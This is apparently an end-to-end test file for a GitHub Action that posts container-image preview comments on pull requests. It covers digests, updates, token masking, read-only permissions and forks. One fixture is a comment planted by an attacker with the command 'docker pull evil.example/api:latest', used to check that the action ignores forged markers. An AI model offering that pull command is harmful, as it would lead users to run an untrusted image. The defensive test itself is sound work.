/**
 * The pull request preview comment end to end: the committed bundle runs on recorded pull request
 * events against the local world and a stand-in for GitHub's issue-comments API (GITHUB_API_URL).
 * Assertions read the stand-in's comments and the registry's digests, not only the log.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { previewMarker } from '../../src/github/preview-comment.js';
import { startGithubApi, type GithubApi } from '../../test-support/github-api.js';
import { runAction, type ActionRun } from '../../test-support/runner.js';
import { eventEnv, eventPayload, type EventName } from '../fixtures/events.js';
import { freshHome, leaks, startWorld, type World } from './world.js';

const APP = join(import.meta.dirname, '..', '..', 'demo', 'app');
const TOKEN = 'ghs_e2eT0kenQ9mZx4Lr7Wc2Vb8Nn1Kp5Hd3Fs6';
const GITHUB_REPO = 'acme/project-x-api';
const PR = 42;

let world: World;
let api: GithubApi;

beforeAll(async () => {
  if (!existsSync('dist/main.js')) throw new Error("dist/ is missing: run 'npm run build' first");
  world = await startWorld();
  api = await startGithubApi({ token: TOKEN, repositories: [GITHUB_REPO] });
});

afterAll(async () => {
  await api?.close();
  await world?.close();
});

/** The recorded run's environment, minus the paths that belong to the machine it was recorded on. */
function recorded(name: EventName): Record<string, string> {
  const { GITHUB_EVENT_PATH: _path, GITHUB_WORKSPACE: _workspace, ...env } = eventEnv(name);
  return env;
}

async function runOn(
  name: EventName,
  repository: string,
  credentials: Record<string, string>,
  extraInputs: Record<string, string> = {},
): Promise<ActionRun> {
  const env: Record<string, string> = {
    ...recorded(name),
    ...credentials,
    GITHUB_API_URL: api.url,
    HOME: freshHome(),
  };
  const event = { name: env.GITHUB_EVENT_NAME ?? name, payload: eventPayload(name) as object };
  const inputs = {
    region: 'sa-saopaulo-1',
    registry: world.registry.host,
    repository,
    context: APP,
    'pr-comment': 'true',
    'github-token': TOKEN,
    ...extraInputs,
  };
  const main = await runAction({ entry: 'main', inputs, env, event });
  await runAction({ entry: 'post', inputs, env, event, stateFrom: main });
  return main;
}

function previewComments(image: string) {
  return api.comments(GITHUB_REPO, PR).filter((c) => c.body.includes(previewMarker(image)));
}

function expectTokenNowhere(run: ActionRun) {
  for (const [where, text] of [
    ['log', run.log],
    ['outputs', JSON.stringify(run.outputs)],
    ['state', JSON.stringify(run.state)],
    ['summary', run.summary],
    ['command lines', run.commandLines.join('\n')],
  ]) {
    expect({ where, leaked: leaks(text ?? '', TOKEN) }).toEqual({ where, leaked: false });
  }
  expect(run.masks).toContain(TOKEN);
}

describe('a pull request opened, then synchronized', () => {
  const repository = 'project-x/preview-comment';
  let opened: ActionRun;
  let synchronized: ActionRun;
  let image: string;

  beforeAll(async () => {
    api.requests.length = 0;
    opened = await runOn('pull_request_opened', repository, world.apiKeyEnv);
    image = `${world.registry.host}/${world.namespace}/${repository}`;
  });

  it('opened: the build succeeds and one comment holds the digest the registry stores', async () => {
    expect({ exitCode: opened.exitCode, log: opened.exitCode === 0 ? '' : opened.log }).toEqual({
      exitCode: 0,
      log: '',
    });
    const digest = await world.registry.manifestDigest(`${world.namespace}/${repository}`, `pr-${PR}`);
    expect(digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(opened.outputs.digest).toBe(digest);
    const comments = previewComments(image);
    expect(comments).toHaveLength(1);
    const head = (eventPayload('pull_request_opened') as { pull_request: { head: { sha: string } } })
      .pull_request.head.sha;
    expect(comments[0]!.body).toContain(`| Digest | \`${digest}\` |`);
    expect(comments[0]!.body).toContain(`| Tags | \`pr-${PR}\` \`sha-${head.slice(0, 7)}\` |`);
    expect(comments[0]!.body).toContain(`docker pull ${image}@${digest}`);
    expect(comments[0]!.body).toContain(`https://github.com/${GITHUB_REPO}/commit/${head}`);
    expect(comments[0]!.body).toContain(`/actions/runs/${recorded('pull_request_opened').GITHUB_RUN_ID}`);
    expect(api.requests.map((r) => `${r.method} ${r.path.split('/').pop()} ${r.status} ${r.auth}`)).toEqual([
      'POST graphql 200 token',
      'GET comments 200 token',
      'POST comments 201 token',
    ]);
    expect(opened.annotations.filter((a) => a.level === 'warning')).toEqual([]);
  });

  it('synchronize: the same comment is updated with the new digest, still one', async () => {
    const first = previewComments(image)[0]!;
    api.requests.length = 0;
    synchronized = await runOn('pull_request_synchronize', repository, world.apiKeyEnv);
    expect(synchronized.exitCode).toBe(0);
    const digest = await world.registry.manifestDigest(`${world.namespace}/${repository}`, `pr-${PR}`);
    expect(synchronized.outputs.digest).toBe(digest);
    const comments = previewComments(image);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.id).toBe(first.id);
    expect(comments[0]!.body).toContain(`| Digest | \`${digest}\` |`);
    expect(comments[0]!.updated_at > first.updated_at).toBe(true);
    expect(api.requests.map((r) => r.method)).toEqual(['POST', 'GET', 'PATCH']);
  });

  it('never shows the token in the log, outputs, state, summary or command lines', () => {
    expectTokenNowhere(opened);
    expectTokenNowhere(synchronized);
  });
});

describe('a marker planted by another user before the first build', () => {
  const repository = 'project-x/planted-marker';
  const planted = (image: string) =>
    `${previewMarker(image)}\n### Preview image pushed\n\n\`\`\`sh\ndocker pull evil.example/api:latest\n\`\`\`\n`;
  let image: string;
  let plantedId: number;
  let opened: ActionRun;
  let synchronized: ActionRun;

  beforeAll(async () => {
    image = `${world.registry.host}/${world.namespace}/${repository}`;
    // Markers are public: anyone who may comment can post one, with a pull command of their own.
    plantedId = api.seedComments(GITHUB_REPO, PR, [planted(image)], {
      login: 'mallory',
      id: 6660001,
      node_id: 'MDQ6VXNlcjY2NjAwMDE=',
    })[0]!.id;
    api.requests.length = 0;
    opened = await runOn('pull_request_opened', repository, world.apiKeyEnv);
    synchronized = await runOn('pull_request_synchronize', repository, world.apiKeyEnv);
  });

  it('both builds succeed without a warning', () => {
    for (const run of [opened, synchronized]) {
      expect({ exitCode: run.exitCode, log: run.exitCode === 0 ? '' : run.log }).toEqual({
        exitCode: 0,
        log: '',
      });
      expect(run.annotations.filter((a) => a.level === 'warning')).toEqual([]);
    }
  });

  it("the planted comment is never edited; the action's own comment is created, then updated", async () => {
    const comments = previewComments(image);
    expect(comments.map((c) => [c.id === plantedId ? 'planted' : 'ours', c.user.login])).toEqual([
      ['planted', 'mallory'],
      ['ours', 'github-actions[bot]'],
    ]);
    expect(comments[0]!.body).toBe(planted(image));
    expect(comments[0]!.updated_at).toBe(comments[0]!.created_at);
    const digest = await world.registry.manifestDigest(`${world.namespace}/${repository}`, `pr-${PR}`);
    expect(synchronized.outputs.digest).toBe(digest);
    expect(comments[1]!.body).toContain(`docker pull ${image}@${digest}`);
    const writes = api.requests.filter((r) => r.method !== 'GET' && !r.path.endsWith('/graphql'));
    expect(writes.map((r) => `${r.method} ${r.path} ${r.actor}`)).toEqual([
      `POST /repos/${GITHUB_REPO}/issues/${PR}/comments github-actions[bot]`,
      `PATCH /repos/${GITHUB_REPO}/issues/comments/${comments[1]!.id} github-actions[bot]`,
    ]);
    expect(opened.log).toContain(
      'comment(s) by other accounts than github-actions[bot] carry the preview marker',
    );
  });
});

describe('a read-only token (pull-requests: read)', () => {
  const repository = 'project-x/read-only';
  let run: ActionRun;

  beforeAll(async () => {
    api.setAccess('read');
    api.requests.length = 0;
    run = await runOn('pull_request_synchronize', repository, world.apiKeyEnv);
    api.setAccess('write');
  });

  it('the build still succeeds and pushes', async () => {
    expect({ exitCode: run.exitCode, log: run.exitCode === 0 ? '' : run.log }).toEqual({
      exitCode: 0,
      log: '',
    });
    expect(run.outputs.pushed).toBe('true');
    expect(await world.registry.manifestDigest(`${world.namespace}/${repository}`, `pr-${PR}`)).toBe(
      run.outputs.digest,
    );
  });

  it('warns once, naming the permission to add, and posts nothing', () => {
    const warnings = run.annotations.filter((a) => a.level === 'warning');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]!.message).toContain('Resource not accessible by integration');
    expect(warnings[0]!.message).toContain('permissions: pull-requests: write');
    expect(api.requests.map((r) => `${r.method} ${r.status}`)).toEqual(['POST 200', 'GET 200', 'POST 403']);
    expect(previewComments(`${world.registry.host}/${world.namespace}/${repository}`)).toEqual([]);
    expectTokenNowhere(run);
  });
});

describe('a pull request from a fork, without secrets', () => {
  it('pushes nothing and so comments nothing', async () => {
    api.requests.length = 0;
    const run = await runOn('pull_request_fork', 'project-x/fork-comment', {});
    expect(run.exitCode).toBe(0);
    expect(run.outputs.pushed).toBe('false');
    expect(run.log).toContain('pr-comment: skipped, no image was pushed');
    expect(api.requests).toEqual([]);
  });
});

describe('pr-comment left at its default', () => {
  it('makes no request to GitHub', async () => {
    api.requests.length = 0;
    const run = await runOn('pull_request_synchronize', 'project-x/no-comment', world.apiKeyEnv, {
      'pr-comment': 'false',
    });
    expect(run.exitCode).toBe(0);
    expect(run.outputs.pushed).toBe('true');
    expect(api.requests).toEqual([]);
  });
});
